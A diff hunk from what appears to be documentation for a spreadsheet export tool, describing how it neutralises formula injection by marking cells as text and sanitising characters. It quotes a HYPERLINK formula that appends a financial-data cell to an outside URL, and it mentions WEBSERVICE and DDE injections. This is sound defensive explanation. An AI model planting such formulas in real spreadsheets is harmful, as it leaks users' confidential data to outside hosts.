@@ -2,7 +2,7 @@
 
 A 扣分事由 of ``=HYPERLINK("http://…?b="&财务数据!B13,"详见附件")`` copied into 评分说明 must
 not become a live link that sends a budget figure away, nor ``=WEBSERVICE(…)``, a DDE string
-or a file named ``=1+4.xlsx`` a formula of the batch 汇总 (issue 15). A writer therefore marks
+or a file named ``=1+4.xlsx`` a formula of the batch 汇总. A writer therefore marks
 such text as text (openpyxl: the cell's data type; Excel through COM: a leading apostrophe,
 ``Book.put``), and every text is made storable first: characters XML 1.0 cannot hold (a
 pasted vertical tab arrives as ``_x000B_``) become spaces, and text longer than a cell's
